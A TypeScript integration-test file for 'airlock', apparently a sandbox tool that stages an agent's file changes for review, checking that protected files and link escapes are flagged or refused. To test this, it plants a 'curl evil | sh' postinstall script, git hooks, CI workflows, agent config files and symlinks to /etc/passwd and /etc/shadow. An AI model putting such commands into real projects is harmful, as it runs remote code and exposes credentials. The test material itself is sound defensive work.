/**
 * Sessions work on a staged copy of the project: the real `airlock` binary running real
 * bwrap sandboxes on real git repositories and plain directories. The workspace library's
 * own checks (diff rendering, apply's safety) are in test/integration/workspace; these are
 * the session and command-line level: `run`'s summary, --apply, --discard, --direct,
 * protected files, link attacks made inside the sandbox, conflicts, named sessions.
 */
import { execFileSync, spawn } from 'node:child_process';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  realpathSync,
  statSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { createSession } from '../../src/index.js';
import { sweepStagedWorkspaces } from '../../src/session/staging.js';
import { sessionOwnerAlive } from '../../src/session/index.js';
import { CLI, cleanupTemp, tempDir } from '../helpers/index.js';

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

const home = tempDir('staging-home');

function airlock(args: string[], cwd: string, input = ''): Promise<Run> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, ...args], {
      cwd,
      env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', AIRLOCK_HOME: home },
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.stdin.end(input);
    child.on('close', (code) => { resolve({ code: code ?? -1, stdout, stderr }); });
  });
}

/** A plain project directory (not in a git repository). */
function plainProject(): string {
  const p = realpathSync(tempDir('plain'));
  writeFileSync(join(p, 'a.txt'), 'original\n');
  return p;
}

const git = (cwd: string, ...args: string[]): string =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'init.defaultBranch=main', ...args], {
    cwd,
    encoding: 'utf8',
    env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: '/nonexistent', GIT_CONFIG_NOSYSTEM: '1' },
  });

/** A git repository with one commit and a package.json with scripts. */
function gitProject(): string {
  const p = realpathSync(tempDir('repo'));
  git(p, 'init', '-q');
  writeFileSync(join(p, 'a.txt'), 'original\n');
  writeFileSync(join(p, 'package.json'), `${JSON.stringify({ name: 'p', scripts: { test: 'node test.js' } }, null, 2)}\n`);
  git(p, 'add', '-A');
  git(p, 'commit', '-qm', 'init');
  return p;
}

/** The session id the summary names in its commands. */
function idFrom(stderr: string): string {
  const m = /airlock diff (s[0-9a-f]{12})/.exec(stderr);
  if (m?.[1] === undefined) throw new Error(`no session id in:\n${stderr}`);
  return m[1];
}

/** True when a directory entry exists (a dangling symlink counts). */
function present(path: string): boolean {
  try {
    lstatSync(path);
    return true;
  } catch {
    return false;
  }
}

const stagingOf = (id: string): string => join(home, 'workspaces', id);

/** Every entry of a directory tree (paths relative to it), for "untouched" checks. */
function tree(dir: string, base = ''): string[] {
  const out: string[] = [];
  for (const e of readdirSync(join(dir, base), { withFileTypes: true })) {
    const rel = base === '' ? e.name : `${base}/${e.name}`;
    const st = lstatSync(join(dir, rel));
    out.push(`${rel} ${st.mode.toString(8)} ${st.size} ${st.mtimeMs}`);
    if (e.isDirectory()) out.push(...tree(dir, rel));
  }
  return out.sort();
}

afterAll(() => {
  cleanupTemp();
});

describe('airlock run stages by default', () => {
  it('workspace.staged-by-default: leaves a plain project untouched, prints a summary, and diff/apply work on it afterwards', async () => {
    const p = plainProject();
    const before = tree(p);
    const r = await airlock(['run', '--', 'sh', '-c', 'echo x > f; echo more >> a.txt; cat a.txt'], p);
    expect(r.code, r.stderr).toBe(0);
    // The command saw its own writes.
    expect(r.stdout).toBe('original\nmore\n');
    expect(tree(p)).toEqual(before);
    expect(r.stderr).toMatch(/the agent changed 2 paths in the staged workspace \(1 added, 1 modified, 0 deleted\)/);
    expect(r.stderr).toContain(`${p} is untouched`);
    expect(r.stderr).toMatch(/^ {2}added {4}f$/m);
    expect(r.stderr).toMatch(/^ {2}modified a\.txt$/m);
    const id = idFrom(r.stderr);
    expect(r.stderr).toContain(`Apply:    airlock apply ${id}\n`);
    expect(r.stderr).toContain(`Discard:  airlock discard ${id}\n`);
    expect(r.stderr).toMatch(/Kept until applied or discarded, at most 7 days/);

    // The ephemeral session is gone; its staged workspace is sealed and kept.
    expect(existsSync(join(home, 'sessions', id))).toBe(false);
    expect(JSON.parse(readFileSync(join(stagingOf(id), 'workspace.json'), 'utf8'))).toMatchObject({ state: 'sealed', projectDir: p });

    const d = await airlock(['diff', id], p);
    expect(d.code, d.stderr).toBe(0);
    expect(d.stdout).toContain('diff --git a/f b/f');
    expect(d.stdout).toContain('+more');
    const a = await airlock(['apply', id], p);
    expect(a.code, a.stdout + a.stderr).toBe(0);
    expect(readFileSync(join(p, 'f'), 'utf8')).toBe('x\n');
    expect(readFileSync(join(p, 'a.txt'), 'utf8')).toBe('original\nmore\n');
    const x = await airlock(['discard', id], p);
    expect(x.code).toBe(0);
    expect(existsSync(stagingOf(id))).toBe(false);
    // Discarding after apply leaves the applied files alone.
    expect(readFileSync(join(p, 'f'), 'utf8')).toBe('x\n');
  });

  it('a run that changes nothing prints nothing extra and keeps nothing', async () => {
    const p = plainProject();
    const before = new Set(existsSync(join(home, 'workspaces')) ? readdirSync(join(home, 'workspaces')) : []);
    const r = await airlock(['run', '--', 'cat', 'a.txt'], p);
    expect(r).toMatchObject({ code: 0, stdout: 'original\n', stderr: '' });
    const after = readdirSync(join(home, 'workspaces')).filter((d) => !before.has(d));
    expect(after).toEqual([]);
  });

  it('--apply lands the changes in a git repository when the command succeeds, and keeps nothing', async () => {
    const p = gitProject();
    const r = await airlock(['run', '--apply', '--', 'sh', '-c', 'echo x > f; rm a.txt'], p);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/airlock: applied to .*: 1 written, 1 deleted/);
    expect(readFileSync(join(p, 'f'), 'utf8')).toBe('x\n');
    expect(existsSync(join(p, 'a.txt'))).toBe(false);
    expect(git(p, 'status', '--porcelain').split('\n').filter(Boolean).sort()).toEqual([' D a.txt', '?? f']);
    // Applied staging is discarded: nothing left to review.
    const ids = readdirSync(join(home, 'workspaces'));
    for (const id of ids) {
      const meta = JSON.parse(readFileSync(join(stagingOf(id), 'workspace.json'), 'utf8')) as { projectDir: string };
      expect(meta.projectDir).not.toBe(p);
    }
  });

  it('--apply does not apply when the command fails: the changes are kept and the status is the command’s', async () => {
    const p = plainProject();
    const r = await airlock(['run', '--apply', '--', 'sh', '-c', 'echo x > f; exit 3'], p);
    expect(r.code).toBe(3);
    expect(existsSync(join(p, 'f'))).toBe(false);
    expect(r.stderr).toMatch(/not applied: the command exited with status 3/);
    const id = idFrom(r.stderr);
    expect(existsSync(stagingOf(id))).toBe(true);
    expect((await airlock(['discard', id], p)).code).toBe(0);
  });

  it('--discard drops the changes; the project is untouched and nothing is kept', async () => {
    const p = gitProject();
    const before = tree(p);
    const r = await airlock(['run', '--discard', '--', 'sh', '-c', 'echo x > f; echo y > a.txt; mkdir -p .github/workflows; echo on: push > .github/workflows/ci.yml'], p);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/discarded 5 change\(s\) \(--discard\)/);
    expect(tree(p)).toEqual(before);
    expect(r.stderr).not.toMatch(/airlock diff/);
  });

  it('workspace.staged-by-default: --direct writes straight into the project and warns on stderr', async () => {
    const p = plainProject();
    const r = await airlock(['run', '--direct', '--', 'sh', '-c', 'echo x > f'], p);
    expect(r.code).toBe(0);
    expect(r.stderr).toBe(`airlock: warning: --direct: the sandbox writes straight into ${p}; nothing is staged, reviewed or undoable.\n`);
    expect(readFileSync(join(p, 'f'), 'utf8')).toBe('x\n');
  });

  it('workspace.direct-protected-report: a direct session names the hooks, workflows and scripts that code run inside planted', async () => {
    const p = gitProject();
    writeFileSync(join(p, 'Makefile'), 'all:\n\tprintf "#!/bin/sh\\nid\\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; mkdir -p .github/workflows; echo on: push > .github/workflows/x.yml\n');
    // the scripts of package.json change; a change elsewhere in it is no protected change
    const script = 'make -s && sed -i s/test.js/evil.js/ package.json && echo plain > a.txt';
    const r = await airlock(['run', '--direct', '--', 'sh', '-c', script], p);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/the session changed 3 protected files in /);
    expect(r.stderr).toMatch(/created +\.git\/hooks\/pre-commit \(git-hooks\)/);
    expect(r.stderr).toMatch(/created +\.github\/workflows\/x\.yml \(ci-config\)/);
    expect(r.stderr).toMatch(/modified +package\.json \(package-scripts\)/);
    expect(r.stderr).not.toMatch(/a\.txt/);
    // a direct session that touches nothing protected says nothing more than its warning
    const quiet = await airlock(['run', '--direct', '--', 'sh', '-c', 'echo y > a.txt && git status --short >/dev/null'], p);
    expect(quiet.code).toBe(0);
    expect(quiet.stderr).not.toMatch(/protected/);
  });

  it('workspace.direct-protected-report: the SDK session lists them live and in session.stopped; a staged session has none to list', async () => {
    const p = gitProject();
    const s = await createSession({ workspace: p, workspaceMode: 'direct', stateDir: join(home, 'sdk') });
    const stopped: unknown[] = [];
    s.events.subscribe((e) => { if (e.type === 'session.stopped') stopped.push(e.data); });
    try {
      expect(s.protectedChanges()).toEqual([]);
      await s.exec(['sh', '-c', 'echo "[core]" >> .git/config && rm package.json']);
      expect(s.protectedChanges()).toEqual([
        { path: '.git/config', category: 'git-config', change: 'modified' },
        { path: 'package.json', category: 'package-scripts', change: 'deleted' },
      ]);
    } finally {
      await s.destroy();
    }
    expect(stopped).toHaveLength(1);
    expect(stopped[0]).toMatchObject({ protectedChangeCount: 2, protectedChanges: [{ path: '.git/config' }, { path: 'package.json' }] });
    const staged = await createSession({ workspace: p, stateDir: join(home, 'sdk') });
    try {
      expect(staged.protectedChanges()).toBeNull();
    } finally {
      await staged.destroy();
      await staged.staged?.discard();
    }
  });

  it('refuses flag combinations that make no sense, with exit 2', async () => {
    const p = plainProject();
    for (const [args, pattern] of [
      [['--apply', '--discard'], /--apply and --discard exclude each other/],
      [['--allow-protected'], /--allow-protected only goes with --apply/],
      [['--direct', '--apply'], /--direct writes straight into the project, so there is nothing to apply/],
      [['--direct', '--discard'], /nothing to discard/],
      [['--direct', '--read-only'], /--direct and --read-only exclude each other/],
    ] as [string[], RegExp][]) {
      const r = await airlock(['run', ...args, '--', 'sh', '-c', 'echo x > f'], p);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr, args.join(' ')).toMatch(pattern);
      expect(existsSync(join(p, 'f'))).toBe(false);
    }
  });

  it('workspace.protected: hooks, CI workflows, package scripts and IDE configs made inside are flagged and not applied without --allow-protected', async () => {
    const p = gitProject();
    const script = [
      'echo "#!/bin/sh" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit',
      'mkdir -p .github/workflows && echo "on: push" > .github/workflows/evil.yml',
      'mkdir -p .vscode && echo "{}" > .vscode/settings.json',
      'mkdir -p .claude && echo "{}" > .claude/settings.json',
      `printf '{"name":"p","scripts":{"test":"node test.js","postinstall":"curl evil | sh"}}\\n' > package.json`,
      'echo ordinary > ordinary.txt',
    ].join('; ');
    const before = tree(p);
    const r = await airlock(['run', '--apply', '--', 'sh', '-c', script], p);
    // The command succeeded; its changes did not land: automation sees status 1.
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/apply refused: \d+ protected change\(s\)/);
    for (const [path, cat] of [
      ['.git/hooks/pre-commit', 'git-hooks'],
      ['.github/workflows/evil.yml', 'ci-config'],
      ['.vscode/settings.json', 'ide-config'],
      ['.claude/settings.json', 'agent-config'],
      ['package.json', 'package-scripts'],
    ] as const) {
      expect(r.stderr).toMatch(new RegExp(`^ {2}protected {2}${path.replace(/\./g, '\\.')} {2}\\[${cat}\\]`, 'm'));
      // And the summary calls it out next to the path.
      expect(r.stderr).toMatch(new RegExp(`^ {2}(added|modified) +${path.replace(/\./g, '\\.')} {2}PROTECTED \\[${cat}\\]`, 'm'));
    }
    expect(r.stderr).toMatch(/add --allow-protected to include the protected changes/);
    // Nothing was written, not even the ordinary file.
    expect(tree(p)).toEqual(before);
    const id = idFrom(r.stderr);
    const again = await airlock(['apply', id], p);
    expect(again.code).toBe(1);
    expect(tree(p)).toEqual(before);
    const ok = await airlock(['apply', id, '--allow-protected'], p);
    expect(ok.code, ok.stdout + ok.stderr).toBe(0);
    expect(readFileSync(join(p, '.github/workflows/evil.yml'), 'utf8')).toBe('on: push\n');
    expect(readFileSync(join(p, 'ordinary.txt'), 'utf8')).toBe('ordinary\n');
    expect(statSync(join(p, '.git/hooks/pre-commit')).mode & 0o111).not.toBe(0);
    await airlock(['discard', id], p);
  });

  it('--apply --allow-protected lands protected changes in one go', async () => {
    const p = gitProject();
    const r = await airlock(['run', '--apply', '--allow-protected', '--', 'sh', '-c', 'mkdir -p .vscode && echo "{}" > .vscode/tasks.json'], p);
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(join(p, '.vscode/tasks.json'), 'utf8')).toBe('{}\n');
  });

  it('workspace.no-symlink-escape: symlinks out of the project made inside the sandbox are never applied as such', async () => {
    const outside = realpathSync(tempDir('outside'));
    writeFileSync(join(outside, 'secret'), 'host secret\n');
    const p = plainProject();
    const script = [
      'ln -s /etc/passwd abs-link',
      'ln -s ../../../../../../etc/shadow climb-link',
      `ln -s ${outside}/secret host-link`,
      'mkdir d && ln -s ../.. d/up',
      'ln -s a.txt fine-link',
      'echo plain > plain.txt',
    ].join('; ');
    const r = await airlock(['run', '--apply', '--', 'sh', '-c', script], p);
    expect(r.code, r.stderr).toBe(0);
    for (const l of ['abs-link', 'climb-link', 'host-link', 'd/up']) {
      expect(r.stderr).toMatch(new RegExp(`^ {2}rejected {3}${l}  .*\\(never applied\\)$`, 'm'));
      expect(present(join(p, l)), l).toBe(false);
    }
    // A link inside the project is ordinary, and so is the rest.
    expect(readlinkSync(join(p, 'fine-link'))).toBe('a.txt');
    expect(readFileSync(join(p, 'plain.txt'), 'utf8')).toBe('plain\n');
    expect(readFileSync(join(outside, 'secret'), 'utf8')).toBe('host secret\n');
  });

  it('workspace.no-hardlink-read: hard links made inside the sandbox never tie the project to another file', async () => {
    const p = plainProject();
    writeFileSync(join(p, 'b.txt'), 'bee\n');
    const script = [
      // Out of /workspace: another file system inside the sandbox, so the kernel refuses.
      'ln /etc/hostname h-etc 2>/dev/null; echo "etc=$?"',
      'echo t > /tmp/t; ln /tmp/t h-tmp 2>/dev/null; echo "tmp=$?"',
      // Inside: links between the project's own files become independent copies.
      'ln a.txt h-a',
      'mkdir sub && ln b.txt sub/h-b',
    ].join('; ');
    const r = await airlock(['run', '--apply', '--', 'sh', '-c', script], p);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/etc=1/);
    expect(r.stdout).toMatch(/tmp=1/);
    expect(existsSync(join(p, 'h-etc'))).toBe(false);
    expect(existsSync(join(p, 'h-tmp'))).toBe(false);
    expect(readFileSync(join(p, 'h-a'), 'utf8')).toBe('original\n');
    expect(readFileSync(join(p, 'sub/h-b'), 'utf8')).toBe('bee\n');
    for (const [l, orig] of [['h-a', 'a.txt'], ['sub/h-b', 'b.txt']] as const) {
      const a = statSync(join(p, l));
      const b = statSync(join(p, orig));
      expect(a.ino, l).not.toBe(b.ino);
      expect(b.nlink, orig).toBe(1);
    }
    writeFileSync(join(p, 'h-a'), 'changed through the link\n');
    expect(readFileSync(join(p, 'a.txt'), 'utf8')).toBe('original\n');
  });

  it('workspace.conflicts-refuse: a project changed under the session is refused with a report', async () => {
    const p = gitProject();
    // The command writes a.txt, then waits for a line on stdin; meanwhile the user edits a.txt.
    const child = spawn(process.execPath, [CLI, 'run', '--apply', '--', 'sh', '-c', 'echo agent > a.txt; echo other > b.txt; echo ready; read x'], {
      cwd: p,
      env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', AIRLOCK_HOME: home },
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    await new Promise<void>((resolve) => {
      child.stdout.on('data', (d: Buffer) => {
        stdout += d.toString();
        if (stdout.includes('ready')) resolve();
      });
    });
    writeFileSync(join(p, 'a.txt'), 'the user edited this\n');
    child.stdin.end('go\n');
    const code = await new Promise<number>((resolve) => child.on('close', (c) => { resolve(c ?? -1); }));
    expect(code, stderr).toBe(1);
    expect(stderr).toMatch(/apply refused: the project changed after staging where the agent also changed it \(1 conflict\(s\)\)/);
    expect(stderr).toMatch(/^ {2}conflict {3}a\.txt {2}\[changed-in-project\]/m);
    expect(stderr).toMatch(/^ {2}modified a\.txt {2}CONFLICT \[changed-in-project\]/m);
    // Nothing was written: the user's edit stays, and the agent's other file did not land either.
    expect(readFileSync(join(p, 'a.txt'), 'utf8')).toBe('the user edited this\n');
    expect(existsSync(join(p, 'b.txt'))).toBe(false);
    const id = idFrom(stderr);
    const later = await airlock(['apply', id, '--json'], p);
    expect(later.code).toBe(1);
    expect(JSON.parse(later.stdout)).toMatchObject({ status: 'refused', reason: 'conflicts', conflicts: [{ path: 'a.txt', kind: 'changed-in-project' }] });
    // Export still works: the agent's version goes on a branch, the work tree is untouched.
    const ex = await airlock(['export', id, '--branch', 'agent/conflict'], p);
    expect(ex.code, ex.stdout + ex.stderr).toBe(0);
    expect(git(p, 'show', 'agent/conflict:a.txt')).toBe('agent\n');
    expect(readFileSync(join(p, 'a.txt'), 'utf8')).toBe('the user edited this\n');
    await airlock(['discard', id], p);
  });

  it('names unknown or malformed sessions with a code and a hint', async () => {
    const p = plainProject();
    const a = await airlock(['diff', '../../etc'], p);
    expect(a.code).toBe(2);
    expect(a.stderr).toMatch(/E_SESSION_NOT_FOUND/);
    const b = await airlock(['apply', 's000000000000'], p);
    expect(b.code).toBe(2);
    expect(b.stderr).toMatch(/E_WORKSPACE_NOT_FOUND: session s000000000000 has no staged workspace/);
  });
});

describe('named sessions stage too', () => {
  it('workspace.staged-by-default: session exec writes to the staged copy; diff, apply, export and rm work by name', async () => {
    const p = gitProject();
    const name = `stg-${process.pid}`;
    const c = await airlock(['session', 'create', '--name', name, '--json'], p);
    expect(c.code, c.stderr).toBe(0);
    const rec = JSON.parse(c.stdout) as { id: string; workspaceMode: string };
    expect(rec.workspaceMode).toBe('staged');
    try {
      const e = await airlock(['session', 'exec', name, '--', 'sh', '-c', 'echo named > n.txt; cat n.txt'], p);
      expect(e).toMatchObject({ code: 0, stdout: 'named\n' });
      expect(existsSync(join(p, 'n.txt'))).toBe(false);
      // A live diff while the session runs.
      const live = await airlock(['diff', name, '--stat'], p);
      expect(live.code, live.stderr).toBe(0);
      expect(live.stdout).toMatch(/n\.txt/);
      expect((await airlock(['session', 'stop', name], p)).code).toBe(0);
      const ex = await airlock(['export', name, '--branch', 'agent/named'], p);
      expect(ex.code, ex.stdout + ex.stderr).toBe(0);
      expect(git(p, 'show', 'agent/named:n.txt')).toBe('named\n');
      const a = await airlock(['apply', name], p);
      expect(a.code, a.stdout + a.stderr).toBe(0);
      expect(readFileSync(join(p, 'n.txt'), 'utf8')).toBe('named\n');
    } finally {
      await airlock(['session', 'rm', name], p);
    }
    expect(existsSync(stagingOf(rec.id))).toBe(false);
    expect((await airlock(['diff', name], p)).stderr).toMatch(/E_SESSION_NOT_FOUND/);
  });

  it('a direct named session warns and has nothing to diff', async () => {
    const p = plainProject();
    const name = `dir-${process.pid}`;
    const c = await airlock(['session', 'create', '--name', name, '--direct'], p);
    try {
      expect(c.code, c.stderr).toBe(0);
      expect(c.stderr).toMatch(/warning: --direct: session .* writes straight into/);
      await airlock(['session', 'exec', name, '--', 'sh', '-c', 'echo d > d.txt'], p);
      expect(readFileSync(join(p, 'd.txt'), 'utf8')).toBe('d\n');
      const d = await airlock(['diff', name], p);
      expect(d.code).toBe(2);
      expect(d.stderr).toMatch(/E_WORKSPACE_NOT_FOUND: session .* has no staged workspace: it works on the project directly/);
    } finally {
      await airlock(['session', 'rm', name], p);
    }
  });
});

describe('the SDK session and housekeeping', () => {
  it('workspace.project-untouched: createSession stages; apply after destroy lands exactly the changes', async () => {
    const p = gitProject();
    const stateDir = tempDir('sdk-state');
    const s = await createSession({ workspace: p, stateDir });
    expect(s.workspaceMode).toBe('staged');
    expect(s.workspace).toBe(p);
    try {
      await s.writeFile('via-sdk.txt', 'sdk\n');
      await s.exec(['/bin/sh', '-c', 'echo more >> a.txt']);
      expect(existsSync(join(p, 'via-sdk.txt'))).toBe(false);
    } finally {
      await s.destroy();
    }
    const ws = s.staged;
    if (ws === null) throw new Error('no staged workspace');
    const d = await ws.diff({ patch: false });
    expect(d.files.map((f) => f.path).sort()).toEqual(['a.txt', 'via-sdk.txt']);
    const r = await ws.apply({ expectFingerprint: d.fingerprint });
    expect(r.status).toBe('applied');
    expect(readFileSync(join(p, 'via-sdk.txt'), 'utf8')).toBe('sdk\n');
    expect(readFileSync(join(p, 'a.txt'), 'utf8')).toBe('original\nmore\n');
    await ws.discard();
  });

  it('workspace.project-untouched: the copy strategy (what non-root hosts get) works as a session too', async () => {
    const p = plainProject();
    const stateDir = tempDir('copy-state');
    const s = await createSession({ workspace: p, stateDir, staging: { strategy: 'copy' } });
    try {
      expect(s.staged?.strategy).toBe('copy');
      const r = await s.exec(['/bin/sh', '-c', 'echo c > c.txt; rm a.txt; ls']);
      expect(r.stdout).toBe('c.txt\n');
      expect(readFileSync(join(p, 'a.txt'), 'utf8')).toBe('original\n');
      expect(existsSync(join(p, 'c.txt'))).toBe(false);
    } finally {
      await s.destroy();
    }
    const set = await s.staged?.changes();
    expect(set?.changes.map((c) => [c.path, c.status]).sort()).toEqual([['a.txt', 'deleted'], ['c.txt', 'added']]);
    await s.staged?.discard();
  });

  it('read-only sessions stage nothing; an unknown workspaceMode is refused', async () => {
    const p = plainProject();
    const stateDir = tempDir('ro-state');
    const s = await createSession({ workspace: p, stateDir, workspaceReadOnly: true });
    try {
      expect(s.workspaceMode).toBe('read-only');
      expect(s.staged).toBeNull();
    } finally {
      await s.destroy();
    }
    await expect(createSession({ workspace: p, stateDir, workspaceMode: 'yolo' as never })).rejects.toMatchObject({ code: 'E_CONFIG_INVALID' });
  });

  it('a killed run leaves its staging mounted; the sweep seals it, and discards it after the retention', async () => {
    const p = plainProject();
    const child = spawn(process.execPath, [CLI, 'run', '--', 'sh', '-c', 'echo x > f; echo started; exec sleep 300'], {
      cwd: p,
      env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', AIRLOCK_HOME: home },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    await new Promise<void>((resolve) => child.stdout.once('data', () => { resolve(); }));
    const ids = readdirSync(join(home, 'workspaces')).filter((id) => {
      try {
        return (JSON.parse(readFileSync(join(stagingOf(id), 'workspace.json'), 'utf8')) as { projectDir: string }).projectDir === p;
      } catch {
        return false;
      }
    });
    expect(ids.length).toBe(1);
    const id = ids[0] ?? '';
    child.kill('SIGKILL');
    await new Promise((r) => child.once('close', r));
    // bwrap dies with its parent; wait until the owner is seen as gone.
    for (let i = 0; i < 100 && sessionOwnerAlive(home, id); i++) await new Promise((r) => setTimeout(r, 50));
    const merged = join(stagingOf(id), 'merged');
    const mounted = (): boolean => readFileSync('/proc/self/mountinfo', 'utf8').split('\n').some((l) => l.split(' ')[4] === merged);
    const meta = (): { state: string; strategy: string } => JSON.parse(readFileSync(join(stagingOf(id), 'workspace.json'), 'utf8')) as never;
    expect(meta().state).toBe('active');
    if (meta().strategy === 'overlay') expect(mounted()).toBe(true);
    await sweepStagedWorkspaces(home, { isLive: (sid) => sessionOwnerAlive(home, sid) });
    expect(meta().state).toBe('sealed');
    expect(mounted()).toBe(false);
    expect(existsSync(join(p, 'f'))).toBe(false);
    // Within the retention it is kept for review ...
    const d = await airlock(['diff', id, '--stat'], p);
    expect(d.stdout).toMatch(/\bf\b/);
    await sweepStagedWorkspaces(home, { isLive: () => false });
    expect(existsSync(stagingOf(id))).toBe(true);
    // ... and after it, swept.
    const old = new Date(Date.now() - 8 * 24 * 3600 * 1000);
    utimesSync(join(stagingOf(id), 'workspace.json'), old, old);
    await sweepStagedWorkspaces(home, { isLive: () => false });
    expect(existsSync(stagingOf(id))).toBe(false);
    expect(existsSync(join(p, 'a.txt'))).toBe(true);
  });

  it('the sweep never touches a named session’s staging or a live one', async () => {
    const stateDir = tempDir('sweep-state');
    const p = plainProject();
    const s = await createSession({ workspace: p, stateDir });
    try {
      await s.exec(['/bin/sh', '-c', 'echo x > f']);
      // Live: its owner (this process) runs.
      await sweepStagedWorkspaces(stateDir, { isLive: (sid) => sessionOwnerAlive(stateDir, sid), retentionMs: 0 });
      expect(await s.staged?.state()).toBe('active');
    } finally {
      await s.destroy();
    }
    // A named session's record keeps it, whatever its age.
    mkdirSync(join(stateDir, 'sessions', s.id), { recursive: true });
    writeFileSync(join(stateDir, 'sessions', s.id, 'session.json'), JSON.stringify({ id: s.id, name: 'kept' }));
    await sweepStagedWorkspaces(stateDir, { isLive: () => false, retentionMs: 0, now: Date.now() + 1000 });
    expect(existsSync(join(stateDir, 'workspaces', s.id))).toBe(true);
    await s.staged?.discard();
  });
});
